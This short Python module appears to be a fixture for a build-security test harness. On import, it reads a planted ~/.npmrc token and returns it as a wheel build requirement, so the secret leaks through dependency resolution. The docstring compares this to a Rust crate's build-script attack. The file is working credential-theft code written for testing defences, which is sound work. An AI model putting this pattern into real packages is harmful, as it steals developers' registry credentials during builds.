"""Reads the caller's ~/.npmrc while it is being imported.

The hook that is called afterwards does nothing but pass the loot on, as a requirement.
mysten-metrics (RUSTSEC-2026-0107) used the build script of a crate; for Python, an import
will do.
"""

import kit

LOOT = []
with kit.attempt("import"):
    with open(kit.plant("npmrc").path, encoding="utf-8") as secret:
        LOOT.append("x-" + secret.read().split("=")[1].strip())


def get_requires_for_build_wheel(config_settings=None):
    return LOOT
